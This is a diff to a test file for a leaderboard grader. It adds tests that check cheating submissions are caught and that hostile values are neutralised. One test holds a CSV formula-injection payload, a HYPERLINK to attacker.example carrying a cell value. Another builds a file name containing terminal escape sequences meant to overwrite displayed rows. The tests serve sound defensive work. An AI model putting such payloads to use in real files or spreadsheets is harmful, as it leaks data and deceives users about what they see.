@@ -85,6 +85,8 @@ def board():
         shutil.copytree(ROOT / "tests" / name, copies / name, ignore=shutil.ignore_patterns("__pycache__"))
     # a run sees its own file and the _*.py helpers beside it: the pipeline cheats' twin goes beside them
     shutil.copy(copies / "submissions" / "honest_pipeline.py", copies / "cheats" / "_honest_pipeline.py")
+    # a helper that is a symbolic link to a classmate, as a student's repository may hold (linked_helper)
+    (copies / "cheats" / "_classmate.py").symlink_to(copies / "submissions" / "honest.py")
     # the grader keeps its private folders here, so that this board's sandboxes name this folder
     (copies / "tmp").mkdir(mode=0o755)
     before = {p: p.read_bytes() for p in copies.rglob("*") if p.is_file()}
@@ -153,6 +155,7 @@ def test_no_cheat_ranks_above_its_honest_twin(board):
     ("nested_brackets", "invalid", "unreadable result"),
     ("huge_result", "invalid", "unreadable result"),  # cut at the file-size limit, its own header then garbled
     ("flood_stdout", "failed", "File too large"),  # stdout cut at the file-size limit
+    ("forged_compat", "invalid", "the worker wrote a --api result for a run of the native API"),
 ])
 def test_a_cheat_fails_as_its_program_deserves(board, cheat, status, words):
     rows, _ = _rows(board[1])
@@ -163,7 +166,8 @@ def test_a_cheat_fails_as_its_program_deserves(board, cheat, status, words):
 @pytest.mark.parametrize("cheat", ["clock_rewind", "delete_events", "hide_memory", "zero_costs", "tiny_collectives",
                                    "one_param_update", "delete_allocations", "long_program", "kill_parent",
                                    "kill_siblings", "daemon_forger", "rewrite_siblings", "setsid_child",
-                                   "write_outside", "fork_bomb", "patch_work_complete", "read_classmates"])
+                                   "write_outside", "fork_bomb", "patch_work_complete", "read_classmates",
+                                   "linked_helper"])
 def test_a_cheat_that_made_the_honest_decisions_gets_the_honest_grade(board, cheat):
     """What it patched or attempted in its own process changed nothing: its program is its twin's."""
     rows, _ = _rows(board[1])
@@ -179,6 +183,27 @@ def test_a_cheat_that_hides_bytes_in_flight_pays_its_twins_memory(board, cheat):
     honest = rows[twin(ROOT / "tests" / "cheats" / f"{cheat}.py")]
     assert rows[cheat]["status"] == "ok", rows[cheat]["error"]
     assert rows[cheat]["memory_bytes"] == honest["memory_bytes"] and rows[cheat]["time_s"] > honest["time_s"]
+
+
+@pytest.mark.parametrize("cheat", ["slow_kept_check", "copy_schedule"])
+def test_a_cheat_that_does_extra_work_is_graded_on_it_within_the_limit(board, cheat):
+    """slow_kept_check's 600 pieces of layer 0 once held the grader's end-of-step check for minutes past
+    the suite's 8 s (the replay checks its deadline between ops only); copy_schedule's copies stopped the
+    schedule `run` prints (tests/test_grader_cli.py). Both rows are graded: correct steps that pay for
+    their extra updates or copies."""
+    rows, _ = _rows(board[1])
+    row, honest = rows[cheat], rows["honest"]
+    assert row["status"] == "ok", row["error"]
+    assert row["time_s"] > honest["time_s"] and row["memory_bytes"][1] == honest["memory_bytes"][1]
+
+
+def test_a_cheat_that_hands_in_thousands_of_tp_slices_is_graded_within_the_limit(board):
+    """wide_tp_slices' 20000 slices of 65536 once held the grader's end-of-step check for minutes past the
+    suite's 8 s: now its row is graded, an incorrect step."""
+    row = _rows(board[1])[0]["wide_tp_slices"]
+    assert row["status"] == "incorrect", row["error"]
+    assert row["problems"][0] == "layer 0: rank 0 handed in a weight that was never updated"
+    assert row["problems"][-1] == f"... and {4 * 5001 - len(row['problems']) + 1} more"  # 5000 + 1 lines a layer
 
 
 def test_nothing_escaped_the_sandbox(board):
@@ -246,6 +271,17 @@ def test_csv_has_a_row_per_run_and_per_submission(board):
     assert summary["honest"] == "ok" and summary["crash"] == summary["buggy"] == "0 of 1 ok"
 
 
+def test_a_formula_in_an_error_stays_text_in_the_csv(board):
+    """csv_formula's exception class is named `=HYPERLINK(...)`: its cell starts with a quote, which a
+    spreadsheet shows as text; the JSON keeps the error as the grader read it."""
+    FORMULA = '=HYPERLINK("http://attacker.example/?row="&A2,"see details")'  # noqa: N806 - csv_formula's
+    with (board[1] / "leaderboard.csv").open() as fh:
+        cells = [line["error"] for line in csv.DictReader(fh) if line["submission"] == "csv_formula"]
+    assert cells == [f"'{FORMULA}: the step failed", ""]  # its run, then its ALL row
+    rows, _ = _rows(board[1])
+    assert rows["csv_formula"]["status"] == "failed" and rows["csv_formula"]["error"] == f"{FORMULA}: the step failed"
+
+
 def test_second_run_resumes_and_ignores_rows_it_did_not_write(board):
     _, out, copies, _ = board
     results = out / "results.jsonl"
@@ -259,3 +295,24 @@ def test_second_run_resumes_and_ignores_rows_it_did_not_write(board):
     assert f"resuming: {len(kept)} of {len(lines)}" in proc.stdout
     rows, _ = _rows(out)
     assert rows["honest"]["status"] == "ok"
+
+
+def test_a_file_named_with_escape_sequences_prints_them_as_text(tmp_path):
+    """A submission whose file name holds terminal escape sequences (erase the line, move the cursor up:
+    enough to overwrite the rows above it) prints them as backslash escapes on the board, and the CSV
+    shows them so too; the JSON escapes them itself."""
+    if sandbox_problem():
+        pytest.skip("the OS sandbox is not usable here")
+    subs = tmp_path / "subs"
+    subs.mkdir()
+    name = "evil\x1b[2K\x1b[1A\u202eboard"
+    shutil.copy(ROOT / "tests" / "submissions" / "honest.py", subs / f"{name}.py")
+    (tmp_path / "suite.toml").write_text(SUITE)
+    proc = grader("leaderboard", str(subs), "--suite", str(tmp_path / "suite.toml"), "--out", str(tmp_path / "out"),
+                  "--no-plots", env=dict(os.environ, COLUMNS="200"))
+    assert proc.returncode == 0, proc.stderr
+    assert "\x1b" not in proc.stdout and "\u202e" not in proc.stdout
+    assert "evil\\x1b[2K\\x1b[1A\\u202eboard" in proc.stdout
+    with (tmp_path / "out" / "leaderboard.csv").open() as fh:
+        assert {line["submission"] for line in csv.DictReader(fh)} == {"evil\\x1b[2K\\x1b[1A\\u202eboard"}
+    assert json.loads((tmp_path / "out" / "leaderboard.json").read_text())["rows"][0]["strategy"] == name
